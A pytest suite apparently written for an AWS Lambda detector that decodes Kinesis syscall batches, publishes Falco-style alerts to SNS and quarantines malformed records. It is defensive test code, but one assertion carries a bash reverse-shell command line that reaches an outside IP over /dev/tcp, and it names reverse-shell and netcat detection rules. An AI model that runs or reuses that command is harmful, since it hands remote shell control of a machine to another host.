"""The Kinesis detector end to end on moto: sensor batches in, alerts on SNS, bad
records quarantined, partial batch failures when SNS fails, once-only on retries.

``data/kinesis-event.json`` is a Lambda Kinesis event as AWS delivers it; its two
records are ``lanner.batch`` batches made with BatchWriter from
tests/data/syscall/ (record 1: dev_tcp_reverse_shell.benign_devnull.json then
dev_tcp_reverse_shell.json; record 2: netcat_exec.benign_port_check.json and a
node's "syscall event drop" alert).
"""

from __future__ import annotations

import base64
import copy
import json
import zlib
from collections.abc import Iterator
from typing import Any

import boto3
import pytest
from botocore.stub import Stubber
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_runtime import AWS_DATA, SYSCALL_DATA, FakeContext, Stack, emf_totals, make_stack

from functions.kinesis_detector import decode_record, handler
from functions.publish import node_uuid
from functions.runtime import get_runtime, reset_runtime
from lanner import wire
from lanner.batch import MAGIC, BatchError, BatchWriter, Unpacked, unpack

EVENT = json.loads((AWS_DATA / "kinesis-event.json").read_text())
ORIGIN = "lanner-events/shardId-000000000000/"


@pytest.fixture
def stack(aws: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stack]:
    yield make_stack(monkeypatch)
    reset_runtime()


def doc(name: str) -> dict[str, Any]:
    return dict(json.loads((SYSCALL_DATA / name).read_text()))


def batch(*docs: dict[str, Any], alerts: tuple[dict[str, Any], ...] = ()) -> bytes:
    w = BatchWriter()
    for d in docs:
        w.add(d)
    for a in alerts:
        w.add_alert(a)
    out = w.flush()
    assert out is not None
    return out.data


def record(data: bytes | str, seq: str) -> dict[str, Any]:
    """A record shaped like the fixture's, with other data and sequence number."""
    r = copy.deepcopy(EVENT["Records"][0])
    r["kinesis"]["data"] = data if isinstance(data, str) else base64.b64encode(data).decode()
    r["kinesis"]["sequenceNumber"] = seq
    r["eventID"] = f"shardId-000000000000:{seq}"
    return r


def invoke(*records: dict[str, Any]) -> Any:
    return handler({"Records": list(records)}, FakeContext())


def test_batches_in_alerts_out(stack: Stack, capsys: pytest.CaptureFixture[str]) -> None:
    assert handler(EVENT, FakeContext()) == {"batchItemFailures": []}
    got = {m["alert"]["rule"]: m for m in stack.alerts()}
    assert sorted(got) == ["Falco internal: syscall event drop", "Shell Command Uses Dev TCP"]

    shell = got["Shell Command Uses Dev TCP"]
    assert shell["alert"]["priority"] == "Warning"
    assert shell["alert"]["source"] == "syscall"
    assert (
        shell["alert"]["output_fields"]["proc.cmdline"]
        == "bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"
    )
    assert shell["alert"]["output_fields"]["user.name"] == "node"
    assert "Command line opens a /dev/tcp connection" in shell["alert"]["output"]
    assert shell["attributes"] == {
        "priority": "4",
        "priority_name": "Warning",
        "rule": "Shell Command Uses Dev TCP",
        "source": "syscall",
        "hostname": "node-7.prod.example.net",
        "tags": json.dumps(shell["alert"]["tags"]),
        "kind": "alert",
    }
    assert "k8s_ns" not in shell["attributes"]  # a host process: no namespace

    totals = emf_totals(capsys.readouterr().out)
    assert (totals["EventsIn"], totals["AlertsOut"], totals["AlertsDuplicate"]) == (3, 2, 0)
    assert "BadRecords" not in totals


def test_node_alerts_go_out_in_falcos_schema_as_the_node(stack: Stack) -> None:
    node_alert = unpack(base64.b64decode(EVENT["Records"][1]["kinesis"]["data"])).alerts[0]
    handler(EVENT, FakeContext())
    [drop] = [m for m in stack.alerts() if m["alert"]["source"] == "internal"]
    # Same text, Falco's schema; a uuid of the node's own (see test_node_trust.py).
    assert drop["alert"] == {
        **node_alert,
        "uuid": node_uuid("node-7.prod.example.net", "alert", node_alert["uuid"]),
    }
    assert drop["attributes"]["priority_name"] == "Critical"
    assert drop["attributes"]["hostname"] == "node-7.prod.example.net"


def test_a_poison_record_is_quarantined_and_the_good_ones_go_through(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    attack = batch(doc("dev_tcp_reverse_shell.json"))
    result = invoke(
        record(attack, "101"),
        record(attack[:-12], "102"),  # cut short in transit
        record("bm90IGJhc2U2NA=!*", "103"),
        record(b"hello", "104"),
        record(json.dumps({"hello": "world"}).encode(), "105"),
        # A single flat syscall event as JSON is accepted (see the module docstring).
        record(json.dumps(doc("netcat_exec.json")).encode(), "106"),
    )
    assert result == {"batchItemFailures": []}  # bad records never fail the batch

    assert sorted(m["alert"]["rule"] for m in stack.alerts()) == [
        "Netcat Or Socat Executes Commands",
        "Shell Command Uses Dev TCP",
    ]
    bad = {q["origin"]: q for q in stack.quarantined()}
    assert sorted(bad) == [ORIGIN + s for s in ("102", "103", "104", "105")]
    assert bad[ORIGIN + "102"]["reason"] == "truncated batch: the compressed data ends early"
    assert base64.b64decode(bad[ORIGIN + "102"]["payload"]) == attack[:-12]
    assert bad[ORIGIN + "102"]["encoding"] == "base64"
    assert bad[ORIGIN + "103"]["reason"].startswith("record data is not base64")
    assert bad[ORIGIN + "103"]["payload"] == "bm90IGJhc2U2NA=!*"
    assert (
        bad[ORIGIN + "104"]["reason"] == "not a lanner batch: starts with b'hell', expected b'LNB1'"
    )
    assert bad[ORIGIN + "104"]["payload"] == "hello"
    assert "no 'evt.type'" in bad[ORIGIN + "105"]["reason"]
    assert all(q["source"] == "syscall" for q in bad.values())
    assert emf_totals(capsys.readouterr().out)["BadRecords"] == 4


def test_a_bad_node_alert_is_quarantined_alone(stack: Stack) -> None:
    data = batch(doc("dev_tcp_reverse_shell.json"), alerts=({"output": "no rule here"},))
    assert invoke(record(data, "201")) == {"batchItemFailures": []}
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    [q] = stack.quarantined()
    assert q["reason"] == (
        "node alert 0 from node-7.prod.example.net: source None is not a node's to report "
        "(nodes report syscall alerts and 'Falco internal: syscall event drop')"
    )
    assert json.loads(q["payload"]) == {"output": "no rule here"}


def test_sns_failure_fails_only_that_record_and_the_retry_publishes_once(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    benign = record(batch(doc("dev_tcp_reverse_shell.benign_devnull.json")), "301")
    attack = record(batch(doc("dev_tcp_reverse_shell.json")), "302")
    sns = boto3.client("sns")
    get_runtime().clients.set("sns", sns)
    with Stubber(sns) as stub:
        stub.add_client_error(
            "publish_batch", service_error_code="InternalError", http_status_code=500
        )
        assert invoke(benign, attack) == {"batchItemFailures": [{"itemIdentifier": "302"}]}
    assert stack.alerts() == [] and stack.quarantined() == []

    get_runtime().clients.set("sns", boto3.client("sns"))
    assert invoke(attack) == {"batchItemFailures": []}  # Lambda retries the failed record
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    capsys.readouterr()


def test_a_retried_invocation_publishes_nothing_twice(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    handler(EVENT, FakeContext())
    assert len(stack.alerts()) == 2
    capsys.readouterr()
    assert handler(EVENT, FakeContext()) == {"batchItemFailures": []}
    assert stack.alerts() == []
    totals = emf_totals(capsys.readouterr().out)
    assert (totals["AlertsOut"], totals["AlertsDuplicate"]) == (0, 2)


def test_a_record_that_cannot_be_quarantined_is_retried(stack: Stack) -> None:
    sqs = boto3.client("sqs")
    get_runtime().clients.set("sqs", sqs)
    with Stubber(sqs) as stub:
        stub.add_client_error(
            "send_message", service_error_code="InternalError", http_status_code=500
        )
        result = invoke(
            record(b"hello", "401"), record(batch(doc("dev_tcp_reverse_shell.json")), "402")
        )
    # Never dropped silently: the bad record stays on the shard for the retry.
    assert result == {"batchItemFailures": [{"itemIdentifier": "401"}]}
    assert len(stack.alerts()) == 1


def _nested(levels: int) -> str:
    return '{"a":' * levels + "1" + "}" * levels


def _raw_batch(*lines: str) -> bytes:
    """A batch made by hand (a hostile node's), from its JSON lines after the header."""
    body = "\n".join([json.dumps(wire.HEADER), *lines]) + "\n"
    return MAGIC + zlib.compress(body.encode())


def test_deep_or_huge_json_is_quarantined_and_the_rest_of_the_batch_alerts(
    stack: Stack, capsys: pytest.CaptureFixture[str]
) -> None:
    attack = record(batch(doc("dev_tcp_reverse_shell.json")), "501")
    deep_event = '{"evt.type":"execve","x":' + _nested(1000) + "}"
    huge = '{"evt.type":"execve","n":' + "9" * 5000 + "}"
    result = invoke(record(deep_event.encode(), "502"), record(huge.encode(), "503"), attack)
    # Each bad record is processed (quarantined): none is retried, none blinds the rest.
    assert result == {"batchItemFailures": []}
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    bad = {q["origin"]: q for q in stack.quarantined()}
    assert sorted(bad) == [ORIGIN + s for s in ("502", "503")]
    assert bad[ORIGIN + "502"]["reason"] == (
        "not a lanner batch, and not a JSON event: nests deeper than 64 levels"
    )
    assert bad[ORIGIN + "502"]["payload"] == deep_event
    assert bad[ORIGIN + "503"]["reason"] == (
        "not a lanner batch, and not a JSON event: a number has more than 4,300 digits"
    )
    assert emf_totals(capsys.readouterr().out)["BadRecords"] == 2


# The detector only relies on lanner.batch.unpack raising BatchError (its bounds on
# nesting are lanner/batch.py's): a hostile node's batch is then this record's fault only.
def test_a_batch_whose_lines_nest_too_deep_is_quarantined(stack: Stack) -> None:
    attack = record(batch(doc("dev_tcp_reverse_shell.json")), "601")
    result = invoke(
        record(_raw_batch('{"p":1,"proc":' + _nested(1000) + "}"), "602"),
        attack,
        record(_raw_batch('{"a":' + _nested(1000) + "}"), "603"),
    )
    assert result == {"batchItemFailures": []}
    assert [m["alert"]["rule"] for m in stack.alerts()] == ["Shell Command Uses Dev TCP"]
    bad = {q["origin"]: q for q in stack.quarantined()}
    assert sorted(bad) == [ORIGIN + s for s in ("602", "603")]
    # lanner.batch says why, in its words; the record is kept whole.
    for seq in ("602", "603"):
        assert bad[ORIGIN + seq]["reason"].startswith("line 2: ")
        assert bad[ORIGIN + seq]["encoding"] == "base64"


# --- decode_record, property-based: whatever a record holds, the answer is its events
# and alerts or a BatchError (quarantined with the reason), never another exception,
# which would fail the record and have Lambda retry it until it expires.

_SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=10**300, max_value=10**320)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=20)
)
_JSONISH = st.recursive(
    _SCALARS,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=20,
)


def _deep(levels: int, inner: str = "1") -> str:
    return '{"evt.type":' * levels + inner + "}" * levels


@st.composite
def _records(draw: st.DrawFn) -> bytes:
    kind = draw(st.sampled_from(["bytes", "json", "event", "deep", "huge", "batch", "deep batch"]))
    if kind == "bytes":
        return draw(st.binary(max_size=200))
    if kind == "json":
        return json.dumps(draw(_JSONISH)).encode()
    if kind == "event":
        doc = draw(st.dictionaries(st.text(max_size=8), _JSONISH, max_size=5))
        doc["evt.type"] = draw(st.text(max_size=8))
        text = json.dumps(doc)
        # Invalid UTF-8 spliced in, as a hostile producer may send.
        cut = draw(st.integers(0, len(text)))
        junk = draw(st.sampled_from([b"", b"\xff", b"\xc3", b"\xed\xa0\x80"]))
        return text.encode()[:cut] + junk + text.encode()[cut:]
    if kind == "deep":
        return _deep(draw(st.integers(1, 3000))).encode()
    if kind == "deep batch":
        levels = draw(st.integers(1, 3000))
        line = draw(st.sampled_from(['{"a":%s}', '{"p":1,"proc":%s}', "%s"]))
        return _raw_batch(line % _deep(levels))
    if kind == "huge":
        return ('{"evt.type":"execve","n":' + "7" * draw(st.integers(4000, 9000)) + "}").encode()
    lines = draw(
        st.lists(
            st.one_of(
                _JSONISH.map(lambda v: {"a": v}),
                st.builds(lambda p, v: {"p": p, "proc": v}, st.integers(0, 3), _JSONISH),
                st.builds(lambda p, v: {"p": p, "e": v}, st.integers(0, 3), _JSONISH),
                _JSONISH,
            ).map(json.dumps),
            max_size=6,
        )
    )
    return _raw_batch(*lines)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_records())
def test_decode_record_gives_events_or_a_batch_error_never_another_exception(data: bytes) -> None:
    try:
        out = decode_record(data)
    except BatchError as exc:
        assert str(exc)  # the reason the quarantine keeps
        return
    assert isinstance(out, Unpacked)
    assert all(isinstance(d, dict) for d in (*out.events, *out.alerts))
